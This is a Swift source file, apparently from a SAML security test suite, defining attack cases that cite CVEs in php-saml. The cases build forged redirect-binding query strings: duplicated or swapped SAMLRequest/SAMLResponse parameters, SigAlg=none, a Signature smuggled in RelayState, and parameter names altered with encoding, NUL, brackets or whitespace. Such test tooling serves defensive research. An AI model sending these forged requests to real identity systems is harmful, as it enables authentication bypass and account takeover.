import SAML
import XMLSecurity

// Two parameters where one reader verifies the one and another reader uses the other.
extension Attack {
    private static let doubled = "CVE-2025-27773, CVE-2025-31335, php-saml 4.5.0"
    private static let odd = "CVE-2026-117691, php-saml 4.5.0"

    static let queryNames: [Attack] = [
        query(39, "duplicate-before", "A forged SAMLRequest in front", "前置伪造的 SAMLRequest", doubled, [.transport]) {
            try "SAMLRequest=" + $0.forgedValue() + "&" + $0.query()
        },
        query(39, "duplicate-behind", "A forged SAMLRequest behind", "后置伪造的 SAMLRequest", doubled, [.transport]) {
            try $0.query() + "&SAMLRequest=" + $0.forgedValue()
        },
        query(
            39,
            "request-and-response",
            "SAMLRequest and SAMLResponse together",
            "SAMLRequest 与 SAMLResponse 并存",
            doubled,
            [.transport]
        ) {
            try $0.query() + "&SAMLResponse=" + $0.forgedValue()
        },
        query(39, "duplicate-relay-state", "RelayState twice", "RelayState 出现两次", doubled, [.transport]) {
            try $0.query() + "&RelayState=attacker"
        },
        query(39, "duplicate-algorithm", "SigAlg twice", "SigAlg 出现两次", doubled, [.transport]) {
            try $0.query() + "&SigAlg=none"
        },
        query(
            39,
            "signature-in-relay-state",
            "A RelayState that holds &Signature=",
            "RelayState 中含 &Signature=",
            doubled,
            [.transport]
        ) {
            var surgery = Surgery(try $0.query(relayState: "a&Signature=AAAA"))
            try surgery.replace("a%26Signature%3dAAAA", with: "a&Signature=AAAA")
            return surgery.text
        },
        name("encoded-name", "A percent-encoded name", "百分号编码的参数名", "%53AMLRequest"),
        name("nul-name", "A name with NUL at its end", "参数名以 NUL 结尾", "SAMLRequest%00"),
        name("bracket-name", "A name with brackets", "参数名带方括号", "SAMLRequest[]"),
        name("plus-name", "A name with a space in front", "参数名前有空格", "+SAMLRequest"),
        name("lower-case-name", "A name in lower case", "小写参数名", "samlrequest"),
        name("space-behind-name", "A name with a space behind", "参数名后有空格", "SAMLRequest%20"),
        name("tab-name", "A name with a tab in front", "参数名前有制表符", "%09SAMLRequest"),
    ]

    private static func name(_ id: String, _ en: String, _ zh: String, _ name: String) -> Attack {
        query(40, id, en, zh, odd, [.transport]) { try "\(name)=\($0.forgedValue())&" + $0.query() }
    }
}
